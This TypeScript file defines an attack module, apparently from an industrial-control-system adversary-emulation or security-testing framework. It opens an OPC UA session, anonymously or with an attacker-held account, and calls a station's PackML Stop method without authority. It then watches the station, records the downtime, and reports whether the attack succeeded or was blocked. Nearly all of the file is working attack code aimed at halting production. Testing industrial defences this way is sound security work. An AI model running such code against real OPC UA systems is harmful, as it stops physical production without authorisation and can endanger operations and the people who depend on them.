/**
 * Unauthorized command message on OPC UA: the station's PackML Stop method, called by whoever
 * gets a session. The station stops making parts until someone restarts it.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail, watch } from './common.ts';

export const opcuaStop: Attack = {
  id: 'opcua-stop',
  title: 'OPC UA PackML Stop: the station\'s Stop method called without authority',
  techniques: [T.unauthorizedCommandMessage],
  face: 'opcua',
  preconditions: ['a session: anonymous, or an account the attacker holds', 'the station\'s node ids (opcua-browse)'],
  steps: ['open a session through the weakest endpoint', 'call <station>.PackML.Stop', 'watch the station'],
  expectedImpact: 'the station stops: downtime until an operator restarts it',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { callMethod, nodeOf, openSession, reason } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    const f = await openSession(ctx, evidence);
    let status = 'no session';
    if (f !== null) {
      try {
        status = await callMethod(f, nodeOf(f, `${ctx.station}.PackML`), nodeOf(f, `${ctx.station}.PackML.Stop`));
      } catch (e) {
        status = reason(e);
      } finally {
        await f.close();
      }
      evidence.push(`OPC UA: call ${ctx.station}.PackML.Stop → ${status}`);
    }
    const w = await watch(ctx, status === 'Good' ? ctx.watchMs : 0);
    await trail(ctx, evidence, status !== 'Good');
    const stopped = w.last !== null ? ['Stopping', 'Stopped'].some((s) => w.states.includes(s)) : status === 'Good';
    return {
      outcome: status === 'Good' && stopped ? 'succeeded' : 'blocked',
      evidence,
      impact: { stateBefore: was?.state ?? null, states: w.states, stateAfter: w.last?.state ?? null, downtimeS: w.downtimeS, watchedS: w.watchedS },
    };
  },
  cleanup: restore,
};
